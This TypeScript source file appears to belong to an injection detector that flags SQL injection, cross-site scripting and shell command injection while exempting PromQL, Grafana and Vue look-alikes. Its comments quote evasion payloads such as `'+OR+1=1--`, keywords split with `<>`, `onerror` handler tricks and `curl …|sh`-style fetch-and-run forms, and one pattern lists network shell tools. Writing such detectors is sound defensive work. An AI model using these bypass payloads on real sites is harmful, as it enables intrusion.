const PROMQL_DEFAULT = /\)[ \t]{0,4}or[ \t]{1,4}(?:on[ \t]{0,4}\([\w, ]{0,80}\)[ \t]{0,4})?vector[ \t]{0,4}\([ \t]{0,4}\d{1,10}[ \t]{0,4}\)/
const PROMQL_DEFAULTS = new RegExp(PROMQL_DEFAULT.source, 'g')
/** PromQL: a metric's label selector (`x{job=~"api"}`, `{pod!="a"}`) and `or` before one of PromQL's own functions, none of them SQL's */
const PROMQL_SELECTOR = /[\w:]\{[ \t]{0,4}[a-z_]\w{0,60}[ \t]{0,4}(?:=~|!~|!=|=)[ \t]{0,4}"/
const PROMQL_OR = /\)[ \t\r\n]{0,8}or[ \t\r\n]{1,8}(?:(?:on|ignoring)[ \t]{0,4}\([\w, ]{0,80}\)[ \t\r\n]{0,8})?(?:rate|irate|increase|label_replace|label_join|histogram_quantile|absent(?:_over_time)?|i?delta|deriv|predict_linear|topk|bottomk|clamp_min|clamp_max|changes|resets|sort_desc|[a-z]{2,10}_over_time)[ \t]{0,4}\(/
const PROMQL_ORS = new RegExp(PROMQL_OR.source, 'g')
/** a query in a Java or Kotlin annotation, with no single quote, `;`, `#`, `--`, `/*` or line break in it */
const ANNOTATED_QUERY = /@(?:query|namedquery|namednativequery|select|update|insert|delete|sqlquery|sqlupdate)[ \t]{0,4}\([ \t]{0,4}(?:(?:value|query|nativequery)[ \t]{0,4}=[ \t]{0,4})?"(?=[ \t]{0,4}(?:select|update|delete|insert|from)\b)(?:[^"'\n;#\\/-]|-(?!-)|\/(?!\*)){0,2000}"/g
/**
 * Grafana's global variables by their names: `$__interval`, `$__url_time_range`, `${__field.labels.node_name}` (a shell has none of them set);
 * (fortieth round) and CloudWatch's dynamic labels, `${PROP('Dim.TableName')}` (a bad substitution to a shell; PHP has no `PROP`)
 */
const GRAFANA_VARIABLE = /\$__(?:url_time_range|all_variables|interval(?:_ms)?|rate_interval(?:_ms)?|range(?:_s|_ms)?|from|to|timefilter|timegroup(?:alias)?|dashboard|org|user|name)\b|\$\{__(?:field|data|series|value|url_time_range|all_variables|interval|rate_interval|range|from|to|dashboard|org|user)(?:\.[a-z_]{1,40}){0,4}(?::[a-z]{1,20})?\}|\$\{prop\('[\w.]{1,60}'\)\}/gi
const GRAFANA_ASSIGNED = /\b__[a-z_]{1,40}=/
/**
 * (forty-fourth round) a PromQL selector's regular expression matcher alternating a dashboard's variables (`{rabbitmq_node=~"$src_node|
 * $dst_node"}`, RabbitMQ's Grafana dashboards): inside its double quotes the `|` is the pattern's, and a variable alone after it names no
 * program the value sets (the variables' names are checked: `src_node=id;` before it keeps it read)
 */
// (fourth review: its closing quote followed by the selector's `,` or `}` — `=~"$src|$dst""id #` ran `id` when spliced inside a shell's
// quotes —, no variable a shell has set, `$SHELL`, and no assignment of one however written, `${dst:=id}`)
const VARIABLE_ALTERNATION = /(?<=[=!]~[ \t]{0,4}")\$\{?[a-z_]\w{0,40}\}?(?:\|\$\{?[a-z_]\w{0,40}\}?){1,16}(?="[ \t]{0,4}[,}])/g
const VARIABLE_NAME = /[a-z_]\w{0,40}/g
/** the variables a shell or a login sets */
const SHELL_VARIABLES = new Set(['shell', 'bash', 'path', 'home', 'pwd', 'oldpwd', 'user', 'logname', 'editor', 'visual', 'pager', 'ifs', 'term', 'lang', 'ps1', 'ps2', 'ps4', 'prompt_command', 'hostname', 'mail', 'comspec', 'bash_env', 'env', 'browser', 'tmpdir', 'shlvl', 'random', 'bash_command', 'histfile', 'zdotdir', 'ld_preload'])
/** Whether the value sets `name` for a shell anywhere: `name=`, `${name:=…}`, `${name=…}`, `read name`, `export name` (any use of `${name`) */
function variableSet(v: string, name: string): boolean {
  if (SHELL_VARIABLES.has(name) || v.includes(`\${${name}`)) return true
  // (a selector's own matcher of the same name, `{node=~"$node|$peer"}`, assigns nothing: `=~` and `==` are PromQL's)
  for (let at = v.indexOf(`${name}=`); at !== -1; at = v.indexOf(`${name}=`, at + 1)) {
    const after = v.charCodeAt(at + name.length + 1)
    if ((at === 0 || !isNameChar(v.charCodeAt(at - 1))) && after !== 126 && after !== 61) return true
  }
  return SETTING_BUILTIN.test(v)
}
/** a shell's builtins that set a variable by its name alone (`read dst`, `export dst`) */
const SETTING_BUILTIN = /\b(?:read|export|declare|local|typeset|readonly|let)\b/
/** A statement whose blanks are comments (`SELECT/**\/password/**\/FROM/**\/Members`): no one types a query so. */
const COMMENT_BLANK = /[a-z0-9_)]\/\*[^*]{0,40}\*\/[a-z0-9_(*]/
/**
 * Whether a decoded value injects SQL: as it is; with the comments that split keywords dropped
 * (`un/**\/ion se/**\/lect`); a statement spaced with comments; and with `+` for its blanks where nothing
 * decodes it (a header, a cookie: `'+OR+1=1--`, `union+distinctROW+select+1,2`, `+un/**\/ion+se/**\/lect`).
 */
function sqlValue(v: string, post = false): boolean {
  // (thirty-second round) PromQL's default for an empty result, a dashboard query's `sum(rate(x[1m])) or vector(0)`: no SQL has `vector(`
  if (v.includes('vector') && PROMQL_DEFAULT.test(v)) v = v.replace(PROMQL_DEFAULTS, ')')
  // and PromQL's `or` between two of its own functions over a label selector (`rate(x{job=~"$job"}[$interval]) or irate(x{…}[5m])`)
  // (review: not with a quote or a comment in the value, `x{a="b"}') or changes()>=0--`)
  if (v.includes('{') && !v.includes("'") && !v.includes('--') && PROMQL_SELECTOR.test(v) && PROMQL_OR.test(v)) v = v.replace(PROMQL_ORS, ') + (')
  // (thirty-second round) and an element's name quoted as a call's argument or an item (`document.createElement('div')`, `$("div")`): MySQL's `DIV`
  // reads nothing there
  if (v.includes('div') && QUOTED_DIV.test(v)) v = v.replace(QUOTED_DIVS, "'x'")
  if (sqlInjection(v) || anyOf(SQLI, v) || (!post && SERVER_READS.test(v))) return true
  // (twenty-third round) MySQL's versioned comment around a keyword (`/*!50000SELECT*/`, `/*!0UNION*/`): only MySQL reads it, only an injection writes it
  if (v.includes('/*!') && VERSIONED_KEYWORD.test(v)) return true
  let w = v
  if (v.includes('/*')) {
    w = v.replace(SQL_COMMENT, '')
    if (sqlInjection(w) || anyOf(SQLI, w) || (!post && SERVER_READS.test(w))) return true
    if (COMMENT_BLANK.test(v) && sqlStatement(v)) return true
  }
  return w.includes('+') && (!w.includes(' ') || PLUS_KEYWORD.test(w)) && sqlInjection(w.replace(PLUS_ALL, ' '))
}
/**
 * (fifty-ninth round, the spent hundred-and-thirty-ninth part's misses) SQL's keywords split by what a filter strips before the query is
 * built (`a<>nd 1=2 un<>ion sel<>ect 1,md5(1),3#`, an application that removes `<>`; `whe\re`, `un\ion`, one that removes backslashes):
 * joined again and judged, when a word so split is one of the keywords an injection needs (a word's own `<>` or escape, `a\nb`, joins
 * into none; second review: nor Markdown's escaped underscore, `information\_schema`)
 */
const SPLIT_WORDS = /[a-z_]{1,20}(?:(?:<>|\\(?!_))[a-z_]{1,20}){1,8}/g
const KEYWORD_SPLITS = /(?<=[a-z_])(?:<>|\\(?!_))(?=[a-z_])/g
const SPLIT_KEYWORDS = new Set(['union', 'select', 'where', 'and', 'or', 'from', 'order', 'group', 'having', 'sleep', 'benchmark', 'insert', 'update', 'delete', 'drop', 'exec', 'concat', 'waitfor', 'like', 'into', 'outfile'])
function splitKeyword(v: string): boolean {
  SPLIT_WORDS.lastIndex = 0
  let n = 0
  for (let m = SPLIT_WORDS.exec(v); m !== null && n < 32; m = SPLIT_WORDS.exec(v), n++) if (SPLIT_KEYWORDS.has(m[0].replace(KEYWORD_SPLITS, ''))) return true
  return false
}
/** the value with its split keywords joined (before the SQL gates and the judge), or as it is */
const joinedKeywords = (v: string): string => ((v.includes('<>') || v.includes('\\')) && splitKeyword(v) ? v.replace(KEYWORD_SPLITS, '') : v)
/** Whether a query in a URL given as a value carries SQL injection in one of its parameters. */
function queryInjection(v: string): boolean {
  const m = URL_QUERY.exec(v)
  if (m === null) return false
  let count = 0
  for (const pair of v.slice(m[0].length).split('&')) {
    const eq = pair.indexOf('=')
    if (eq === -1 || ++count > 16) continue
    const value = joinedKeywords(pair.slice(eq + 1))
    if (value.length > 1 && (sqlValue(value.replace(PLUS_ALL, ' ')) || sqlValue(value))) return true
  }
  return false
}

// ---- the detector ---------------------------------------------------------------------------------

const TYPOGRAPHIC_QUOTE = /[\u2018\u2019\u201c\u201d]/
const TYPOGRAPHIC_QUOTES = /[\u2018\u2019\u201c\u201d]/g
/** A string literal closed, `+`, and one of the same quote opened: `'ale'+'rt(1)'` joins to `'alert(1)'`. */
const JOINED_LITERALS = /(['"])\s{0,4}\+\s{0,4}\1/
const JOINED_LITERALS_ALL = /(['"])\s{0,4}\+\s{0,4}\1/g
/** A tag's URL attribute, its host captured. */
const MARKUP_URL = /<[a-z][\w-]{0,20}\b[^<>]{0,400}?\b(?:src|href|data|action|formaction|poster|background)\s*=\s*['"]?(?:https?:)?\/\/([^\s'"/>?#:]{1,200})/g
const callbackHost = (host: string) => CALLBACK_HOST.test(host)
const oobMarkup = (v: string) => someCapture(MARKUP_URL, v, callbackHost)
/** Browsers drop tabs and newlines inside a URL's scheme (`jav&#x09;ascript:`): XSS is tried without them too. */
const URL_BLANK = /[\t\n\r\0]/
const URL_BLANKS = /[\t\n\r\0]/g
/** (thirty-third round) blanks right after a quote end an attribute's value (`@a="onA"⏎@b="x"`): kept as one blank, not glued to the next attribute */
const QUOTE_BLANKS = /(["'])[\t\n\r\0]+/g
/** CSS hides `expression(` in comments and escapes: exp/**\/ression  \65\78\70... */
const CSS_COMMENT = /\/\*[^*]{0,200}\*\//g
const CSS_ESCAPE = /\\0{0,4}([0-9a-f]{1,6})\s?/g
// (twenty-third round: and a character escaped that is no hex digit is itself, `expre\ssion`)
const CSS_ESCAPE_CHAR = /\\([g-z])/g
/**
 * (thirty-ninth round) IE's CSS expression calling a sink, once comments and escapes are undone and full-width letters folded: a
 * declaration alone carries it too (`left:expr/**\/ession(alert('XSS'))`, `left:\\0065\\0078pr\\0065ssion(…)`, `left:\\ff25\\ff38…(…)`)
 */
const CSS_EXPRESSION = /expression\s*\(\s*(?:alert|prompt|confirm|eval|document|window|write)/
/**
 * A value whose CSS comments and escapes hide a signature, read once undone: a style or an expression read by the class's signatures, and
 * (thirty-ninth round) in any value with a parenthesis, IE's expression calling a sink with full-width letters folded
 */
function cssHidden(xv: string, xss: readonly RegExp[], paren: boolean): boolean {
  const named = xv.includes('style') || xv.includes('pression')
  if (!named && !paren) return false
  const u = cssUnescape(xv)
  return (named && anyOf(xss, u)) || (paren && CSS_EXPRESSION.test(u.normalize('NFKC').toLowerCase()))
}
const cssUnescape = (v: string) => v.replace(CSS_COMMENT, '').replace(CSS_ESCAPE, (_m, h: string) => String.fromCodePoint(Math.min(parseInt(h, 16), 0x10ffff))).replace(CSS_ESCAPE_CHAR, '$1')
const ESCAPED_PATH = /\\([/.])/g
const BOUNDARY = /boundary="?([^";]{1,200})"?/
/** A Markdown document: several lines, and headings, fenced blocks, list items or inline code. */
const DOCUMENT = /\n(?:#{1,6} |```|[-*] |\d\. )|`[^`\n]{1,200}`[^`]{1,400}`[^`\n]{1,200}`/
/** (json22: also a span in double backticks, ``sort``, as Markdown and reStructuredText write one) */
// (forty-first round: and one wrapped with its paragraph, `` `cue⏎  cmd` `` — CommonMark's spans take a line break, not a blank line)
// (review: its second line opens no block — a tag, a heading, a list item, a quote, a fence, a rule end the paragraph, and no span is there)
const CODE_SPANS = /``[^`\n]{1,400}``|`[^`\n]{1,400}`|`[^`\n]{1,400}\n(?![ \t]*\n|[ \t]{0,3}(?:<[a-z!/?]|#{1,6}(?:[ \t]|$)|[-*+>](?:[ \t]|$)|\d{1,9}[.)](?:[ \t]|$)|```|~~~|[-*_=]{3,}))[^`\n]{1,400}`/g
/**
 * (forty-second round) A Markdown page's display math, `$$…$$` over one or more lines, no `$` inside (a notebook's Markdown cell, MathJax's or
 * KaTeX's); (review) no `$` right before or after it, which would make it a shell's `$$` then a command substituted (`$$$(curl …|sh)$$`)
 */
const DISPLAY_MATH = /(?<!\$)\$\$[^$]{1,4000}\$\$(?!\$)/g
/** (forty-third round) A Markdown page's comment on lines of its own: `<!--` opening a line, `-->` ending one; at most 2,000 characters */
// (review: `<!--` and `-->` each on a line of their own, and not a download run, a reverse shell or a timing probe inside, PROGRAM_ATTACK)
const MARKDOWN_COMMENT = /(?<=^|\n)[ \t]{0,3}<!--[ \t]*\n(?:[^-<]|-(?!->)|<(?!!--)){0,2000}\n[ \t]{0,3}-->[ \t]*(?=\n|$)/g
// (third review) nor a fetch, a network tool, a substitution or a program handed code to run (`sh -c "$(curl …)"`, `curl … -o s; sh s`,
// `curl …|python3`, `python3 -c "…"`), which a shell reading the page runs (`<!--` is a failed redirection there)
const COMMENT_FETCHES = /\b(?:curl|wget|fetch|nc|ncat|netcat|socat|telnet)\b|\$\(|`|[ \t]-c[ \t]|\/dev\/(?:tcp|udp)\//
/** A Markdown image: its alternative text is a caption shown in place of the picture (`![curl … | cowsay](cowsay.png)`). */
const IMAGE_ALT = /!\[(?:[^\]\n!]|!(?!\[)){0,400}\]\([^()\s]{0,400}\)/g
/**
 * A Markdown text without its code: fenced blocks of any length (found by a scan, paired in order; a
 * last fence left open — a document cut at `maxInspectBytes` — runs to the end), then images' alternative
 * texts, then inline spans.
 */
function outsideCode(v: string): string {
  let out = ''
  let from = 0
  // a fragment cut from inside a block (a page's section): a bare first fence followed by one with an
  // info string (```sh, ```console, which only opens a block) closes a block opened before the value
  const first = v.indexOf('```')
  if (first !== -1 && !fenceInfo(v, first)) {
    const next = v.indexOf('```', first + 3)
    if (next !== -1 && fenceInfo(v, next)) from = first + 3
  }
  for (let open = v.indexOf('```', from); open !== -1; open = v.indexOf('```', from)) {
    out += `${v.slice(from, open)} `
    const close = v.indexOf('```', open + 3)
    if (close === -1) {
      from = v.length
      break
    }
    from = close + 3
  }
  out += v.slice(from)
  return out.replace(IMAGE_ALT, ' ').replace(CODE_SPANS, ' ')
}
const LIST_ITEM = /^ {0,3}(?:[-*+]|\d{1,9}[.)])[ \t]/
const INDENTED_CODE = /^(?:\t| {4})/
/**
 * A Markdown page without its indented code blocks (CommonMark: lines indented by a tab or four spaces after a blank line,
 * where no list goes on: a list item's own paragraphs are indented too). Bounded by the value's lines.
 */
function withoutIndentedCode(v: string): string {
  const lines = v.split('\n')
  let blank = true
  let inCode = false
  let inList = false
  let changed = false
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i]!
    if (line.trim() === '') {
      blank = true
      continue
    }
    if (!inList && (inCode || blank) && INDENTED_CODE.test(line)) {
      lines[i] = ''
      inCode = true
      changed = true
    } else {
      inCode = false
      if (LIST_ITEM.test(line)) inList = true
      else if (!INDENTED_CODE.test(line) && blank) inList = false
    }
    blank = false
  }
  return changed ? lines.join('\n') : v
}
/** Whether the fence at `i` carries an info string (```sh): CommonMark's closing fences have none. */
const fenceInfo = (v: string, i: number) => {
  const c = v.charCodeAt(i + 3)
  return c >= 97 && c <= 122
}
/** A Markdown page from its first line: a heading, or front matter (`---\ntitle: …`). */
const MARKDOWN_START = /^(?:#{1,6} [^\n]{1,200}\n|---\n[\w-]{1,40}:)/
/** (forty-sixth round) or a title underlined, Setext's heading (`Wire⏎====`, `Usage⏎-----`), for a form's page that the break rules read */
const SETEXT_START = /^[^\n]{1,200}\n(?:={3,200}|-{3,200})[\t ]*\n/
/** Markdown's escaped bracket (`# \<script setup>`): the text `<`, no tag. */
const MARKDOWN_ESCAPED_LT = /\\</g
/** (forty-second round) a cut JSON text completed in its last string: the closing quote, then the closers only (a key cut is given `:0`) */
const CUT_LAST_STRING = /"[\]}]{1,64}$/
/** a percent escape a form's cut split at the end of its last value */
const CUT_ESCAPE = /%[\da-f]?$/i
/** what the application does to a value as sent before using it: a query's or a form's `+` as a blank, then its percent-decoding */
const APP_PLUS = 1
const APP_PERCENT = 2
/** A value as the application has it, lower-cased (`app`: APP_PLUS and APP_PERCENT as it does them). Only where the text as sent is read. */
function appText(raw: string, app: number): string {
  return appView(raw, app).toLowerCase()
}
/** `madeCallOrLine`'s counts of `(`, `)`, line feeds, spaces and tabs (reused: the judgement is synchronous) */
const CALL_OR_LINE_TALLY = new Int32Array(5)
/**
 * (forty-fifth round's review) Whether decoding made a `(`, a `)`, a line feed, a space or a tab that the application's form of the
 * value lacks: the characters the shell's exemption for a call's arguments keys on, and the round's exemption for a line opening on
 * `&&` or `||` did until the fourth review took it back (`x%28 & id %29`, `⏎%20|| id`). One pass over each form.
 */
function madeCallOrLine(decoded: string, asApp: string): boolean {
  CALL_OR_LINE_TALLY.fill(0)
  tallyCallOrLine(decoded, 1)
  tallyCallOrLine(asApp, -1)
  for (let k = 0; k < CALL_OR_LINE_TALLY.length; k++) if (CALL_OR_LINE_TALLY[k]! > 0) return true
  return false
}
function tallyCallOrLine(s: string, sign: number): void {
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i)
    const slot = c === 40 ? 0 : c === 41 ? 1 : c === 10 ? 2 : c === 32 ? 3 : c === 9 ? 4 : -1
    if (slot !== -1) CALL_OR_LINE_TALLY[slot]! += sign
  }
}
/**
 * (forty-fifth round's review) The shell's reading of the value as the application holds it, where the detector's decoding made one
 * of `madeCallOrLine`'s characters: the exemption keyed on them holds for neither form. Only asked once the decoded value was read.
 */
function appFormInjection(decoded: string, raw: string | undefined, rawApp: number): boolean {
  if (raw === undefined || raw === decoded) return false
  const asApp = appText(raw, rawApp)
  return madeCallOrLine(decoded, asApp) && rceGate(asApp) && shellInjection(asApp)
}
/** A value as sent, as the application has it (`app`: its own `+` and percent-decoding, `APP_PLUS`, `APP_PERCENT`), its case kept. */
function appView(raw: string, app: number): string {
  const plain = (app & APP_PLUS) !== 0 && raw.includes('+') ? raw.replace(PLUS_ALL, ' ') : raw
  return (app & APP_PERCENT) !== 0 && plain.includes('%') ? percentDecode(plain) : plain
}
/** Whether a text ends inside a tag: a `<` with no `>` after it. */
function openTagEnds(text: string): boolean {
  const lt = text.lastIndexOf('<')
  return lt !== -1 && !text.includes('>', lt)
}
/**
 * The last string of a parsed document in its text's order (its parse bounds the depth); none where an object has a key that is an
 * array index, which JavaScript lists first whatever the text's order.
 */
function lastString(doc: unknown): string | undefined {
  if (typeof doc === 'string') return doc
  // (forty-third round) a text kept as a list of its lines is one value, as `jsonStrings` reads it (a notebook output's `text/html`)
  if (Array.isArray(doc)) return doc.length === 0 ? undefined : doc.length > 1 && lineList(doc) ? doc.join('') : lastString(doc[doc.length - 1])
  if (doc !== null && typeof doc === 'object') {
    const keys = Object.keys(doc)
    if (keys.length === 0 || INDEX_KEY.test(keys[0]!)) return undefined
    return lastString((doc as Record<string, unknown>)[keys[keys.length - 1]!])
  }
  return undefined
}
const INDEX_KEY = /^(?:0|[1-9]\d{0,9})$/
/**
 * (forty-third round's third review) The value a cut JSON text ended, as `jsonStrings` reads it: the parse's last value (a list of lines
 * joined) where the text's own last string literal is it, or ends it (the list's last line) — not another value the parse put last (a key
 * named twice keeps its first place); none where the text names a key twice.
 */
function cutString(closed: string, doc: unknown): string | undefined {
  const literal = cutLiteral(closed)
  const last = literal === undefined ? undefined : lastString(doc)
  return last !== undefined && (last === literal || (last.endsWith(literal!) && last.length > literal!.length && last.charCodeAt(last.length - literal!.length - 1) === 10)) ? last : undefined
}
/**
 * An embedded page in Markdown: an iframe of plain attributes to a relative or web URL (`<iframe src="example.html" width="100%">`);
 * (forty-second round's review) its source's quotes paired — `src="…'` went on to the next quote for a browser, hiding a handler after it
 * (forty-seventh round: a style of its size and border only, as a video player's (`VIDEO_EMBED`), StackBlitz's embed in TanStack Pacer's
 * pages; and as MDX writes it, JSX's `className`, a value of `{true}` or a number, a self-closing `/>`, its attributes on
 * lines of their own, indented — CodeSandbox's embeds in react-number-format's and GraphQL Tools' pages, Loom's in Twilio Paste's, with
 * its browsers' own `webkitallowfullscreen` —: to a browser unknown attributes and an opening tag; review: no `=` in a quoted value,
 * where an `<iframe` inside another tag's attribute would take that tag's handler out with it, `<img src=x alt="<iframe title=" onerror=…
 * " />`)
 */
const EMBED = /<iframe(?:\s{1,12}(?:src\s{0,4}=\s{0,4}(["']?)(?:https?:\/\/[\w.-]{1,100}\/|[\w.-]{1,100}[/.])[^"'\s<>:]{0,300}\1|(?:width|height|title|frameborder|allow|(?:webkit|moz)?allowfullscreen|loading|class|classname|name|scrolling|sandbox)(?:\s{0,4}=\s{0,4}(?:"[^"<>:=]{0,200}"|'[^'<>:=]{0,200}'|[\w%.-]{1,40}|\{(?:true|false|\d{1,6})\}))?|style\s{0,4}=\s{0,4}\{\{[^{}()<>=`]{0,400}\}\}|style\s{0,4}=\s{0,4}"(?:\s{0,4}(?:border(?:-[a-z]{1,10})?|width|height|max-width|max-height|aspect-ratio)\s{0,4}:\s{0,4}[\w .%#-]{0,40}\s{0,4};?){0,8}\s{0,4}")){1,12}\s{0,12}\/?>(?:\s{0,10}<\/iframe>)?/g
/**
 * (forty-seventh round's third review) An embedded page taken out only where it stands outside any other tag: inside one's attribute
 * (`<img src=x alt='<iframe src='x/onerror=alert(1)//' />`) its quotes pair with that attribute's, and taking it out took the tag's
 * handler with it (Chromium ran it; the `>` form since the forty-second round). The last `<` before it must have closed.
 */
function embedOutsideTags(m: string, ...rest: unknown[]): string {
  const at = rest[rest.length - 2] as number
  const text = rest[rest.length - 1] as string
  const open = text.lastIndexOf('<', at - 1)
  return open !== -1 && text.indexOf('>', open) >= at ? m : ' '
}
/**
 * A component's script block on lines of its own (Vue's `<script setup>`, a documentation page's
 * `<script>` importing its components): the opening tag, then an import or a declaration; no sink in it.
 * (thirty-second round: or a single-file component's options, `<script>⏎export default {`, `export default defineComponent(`; forty-eighth
 * round: after up to four blank lines, Observable Plot's VitePress pages' `<script setup>⏎⏎import * as Plot from …`; fifty-second round: or
 * a compiler macro of Vue's or Nuxt's by its name, `<script setup lang="ts">⏎  definePageMeta({`, `defineProps(`; and a generic component's
 * parameters, `<script setup lang="ts" generic="T">`; fifty-seventh round, the spent hundred-and-thirty-sixth part's Vue components: a macro
 * given its type, `defineProps<{ id: string }>()`, and `export default defineComponent(` read in the small letters the value is judged in)
 * (fifty-ninth round, the spent hundred-and-fortieth part's: and a Svelte component's module script, `<script lang="ts" context="module">`
 * or Svelte 5's `<script module>`, opening on an export, `export const rowHeight = writable(0)`: what the block calls is still read.
 * Review, Chromium: a browser ignores `module` and `context` and runs the block as a classic script, so such a block is set aside only
 * when it opens on an export or an import, MODULE_FIRST, which a classic script cannot compile — a declared function first ran what
 * followed it; an export opens any block so, a classic script's `export` being a syntax error that runs nothing)
 * (sixtieth round, the spent hundred-and-forty-second part's: after a block comment, a file's header, `<script setup lang="ts">⏎/**⏎ * @ignore …⏎ *∕⏎⏎import …` (its slash written ∕ here);
 * and a block Babel compiles in the browser, `<script type="text/babel">⏎  import Modal from '../common/Modal.vue'`, a type no browser runs;
 * after `"use strict";`; an import for its effect alone, `import 'vue-awesome/icons/key'`, as much a syntax error in a classic script.
 * The header comment is no code: the sinks are looked for in what follows it, LEADING_COMMENT, when it holds no markup)
 */
const COMPONENT_SCRIPT = /(?:^|\n)[ \t]{0,8}<script(?:[ \t\n\f]{1,4}(?:setup|lang=(?:"ts"|'ts'|ts)|generic=(?:"[^"<>\n]{1,120}"|'[^'<>\n]{1,120}')|context=(?:"module"|'module'|module)|module|type=(?:"text\/babel"|'text\/babel'|text\/babel))){0,3}[ \t\n\f]{0,4}>\n(?:[ \t]{0,8}\n){0,4}(?:[ \t]{0,8}\/\*(?:[^*]|\*(?!\/)){0,2000}\*\/[ \t]{0,8}\n(?:[ \t]{0,8}\n){0,4})?(?:[ \t]{0,8}(?:"use strict"|'use strict');?[ \t]{0,8}\n(?:[ \t]{0,8}\n){0,4})?[ \t]{0,8}(?:import\s[^\n]{1,200}\sfrom\s{1,4}['"]|import\s{1,4}['"][^'"\n]{1,200}['"]|import\s{1,4}\{[ \t]{0,4}\n|(?:const|let)\s{1,4}[\w$]{1,40}\s{0,4}=|export\s{1,4}(?:const|let|function|async\s{1,4}function)\s{1,4}[\w$]{1,40}|define(?:props|emits|expose|options|slots|model|pagemeta|nuxtcomponent|nuxtroutemiddleware|i18nroute|routerules)\s{0,4}[(<]|export\s{1,4}default\s{1,4}(?:\{[ \t]{0,4}\n|definecomponent\s{0,4}\())/g
// (thirty-third round: a type's arguments are no markup, `Axis<NumberValue>`)
// (fifty-second round's review: and the window's other names, a script element made, a beacon, storage, the Function constructor — a
// component script's `const a = 1` then `top.x = 1` or `navigator.sendBeacon(…)` ran in Chromium)
// (the fifty-second round's second review: and a dialog or an evaluator named as a value, `[1].find(alert)`, `const f = alert⏎f(1)`, Reflect, the global object through
// `this[…]` or `Object.assign(this, …)` — not a declaration's, a key's or a member's name, `const confirm = ref(false)`, `emit.confirm`)
// (fifty-seventh round: a function declared with TypeScript's types is declared, as one without, `function update(e: Event, i: number): void {`;
// review: by a name only — the Function constructor in a ternary, `1 ? Function('…') : {}`, is what the value's small letters make of it)
// (fifty-seventh round's review, older than the round: a sink called through call, apply or bind, `setTimeout.call(null, '…')`, and one reached
// through `this` — the window, in a classic script — `const x = this.alert⏎x(2)`: both ran in Chromium)
// (fifty-ninth round's review, older than the round, each ran in Chromium after `const a = 1`: `with (document)`, which reaches the
// document's members by their bare names, the window's `open(`, `new Audio(` or `new EventSource(` fetching another origin, a global
// handler assigned, `onerror=setTimeout;throw"=alert(1)"`, and a dynamic import with a comment before its parenthesis; second review: `open(`
// and the constructors only with another origin's address, ORIGIN_SINK — a component's own `open()`, `new Audio(props.src)`, `new
// EventSource('/api')` are not —, a handler only assigned on a line or after `;`, not a destructuring default; and
// `setTimeout`, `setInterval` and `fetch` named as a value, `const t = setTimeout⏎t('alert(4)')`, and `new FontFace(…, 'url(//…)')`)
const SCRIPT_SINK = /\b(?:alert|prompt|confirm|eval|fetch|atob|settimeout|setinterval)\s*(?:[(`]|\.\s*(?:call|apply|bind)\b)|\bthis\s*\.\s*(?:alert|prompt|eval|fetch|atob|settimeout|setinterval)\b|\bdocument\s*[.[]|\bwindow\s*[.[]|\blocation\b|\bimport\s*(?:\/\*[^*]{0,100}\*\/\s*)?\(|\bwith\s*\(|(?:^|[\n;])[ \t]{0,8}on(?:error|load|message|hashchange|popstate)\s*=(?![=>])|(?<![\w$])<\/?[a-z]|\b(?:top|self|parent|frames|opener|globalthis|navigator)\s*[.[]|\b(?:constructor|createelement|globaleval|sendbeacon|xmlhttprequest|websocket|localstorage|sessionstorage|indexeddb)\b|(?<![\w$'"`])function\b(?![ \t]{0,4}[\w$]{0,40}[ \t]{0,4}\([\w$\s,=.{}\[\]'"-]{0,200}\)[ \t]{0,4}\{|[ \t]{1,4}[\w$]{1,40}[ \t]{0,4}(?:<[\w$\s,]{1,60}>)?[ \t]{0,4}\([\w$\s,=.{}\[\]'"|&?:<>-]{0,200}\)[ \t]{0,4}(?::[^{}()\n]{1,100})?\{)|\bnew\s{1,4}(?:function|image|worker)\b|(?<![\w$.]|\b(?:const|let|var|function)\s{1,4})(?:alert|prompt|confirm|print|eval|settimeout|setinterval|fetch)\b(?!\s{0,4}(?::|=(?!=)))|\breflect\s{0,4}\.|\bthis\s{0,4}\[|\bobject\s{0,4}\.\s{0,4}(?:assign|defineproperty|defineproperties)\s{0,4}\(\s{0,4}this\b/
// (sixtieth round's review, Chromium: and `<!--`, whose `<script>` after it keeps the block open past its first `</script>`)
const BLOCK_ENDS_SOONER = /<\/(?:script|textarea|title|style|xmp|iframe|noembed|noframes|noscript|template|plaintext)[\s/>]|--!?>|<!--/
const MODULE_ATTRIBUTE = /\bmodule\b/
const MODULE_FIRST = /^\s{0,200}(?:export\s|import\s[^\n(]{1,200}\sfrom\s)/
/** (sixtieth round) a block comment opening a script, before any string can be open */
const LEADING_COMMENT = /^\s{0,200}\/\*(?:[^*]|\*(?!\/)){0,2000}\*\//
function withoutComponentScripts(v: string): string {
  let out = ''
  let from = 0
  COMPONENT_SCRIPT.lastIndex = 0
  for (let m = COMPONENT_SCRIPT.exec(v), n = 0; m !== null && n < 16; m = COMPONENT_SCRIPT.exec(v), n++) {
    // (the sixtieth round's second review, Chromium: only a tag standing outside any other, the last `<` before it closed — inside an
    // attribute's value, `<img alt="⏎<script setup>⏎/* " src=x onerror="…`, the block was the image's attributes)
    const tag = v.indexOf('<script', m.index)
    const before = tag > 0 ? v.lastIndexOf('<', tag - 1) : -1
    if (before !== -1 && v.indexOf('>', before) > tag) continue
    const start = v.indexOf('>', m.index) + 1
    let close = v.indexOf('</script>', start)
    if (close === -1) close = v.length
    const block = v.slice(start, close)
    // (fifty-ninth round's review, Chromium, older than the round) not where a browser ends the script or the text around it sooner than
    // this `</script>` (`export const x = 1</script >x<img src=x onerror=…>`; a `<textarea>` or `<!--` line before the block closed
    // inside it); and a module script only when it opens on an export or an import, which no classic script compiles
    if (BLOCK_ENDS_SOONER.test(block) || (MODULE_ATTRIBUTE.test(v.slice(m.index, start)) && !MODULE_FIRST.test(block))) continue
    // the code up to its closing tag: markup or a script sink in it is judged as it is
    // (the fifty-ninth round's second review, older than the round) only quotes where a value starts are a string's: a regular expression's or a
    // comment's quote (`const r = /'/; alert(1); const s = /'/`) hid the sink between two of them
    // (the sixtieth round's review: the header comment set aside only where it holds no markup, `/* <img src=x onerror=…> */` read as it is)
    const comment = LEADING_COMMENT.exec(block)
    const body = comment !== null && !comment[0].includes('<') ? block.slice(comment[0].length) : block
    if (SCRIPT_SINK.test(body.replace(SCRIPT_STRINGS, "$1''")) || ((block.includes('open') || block.includes('new')) && ORIGIN_SINK.test(block))) continue
    out += `${v.slice(from, m.index)} `
    from = Math.min(v.length, close + 9)
    COMPONENT_SCRIPT.lastIndex = from
  }
  return from === 0 ? v : out + v.slice(from)
}
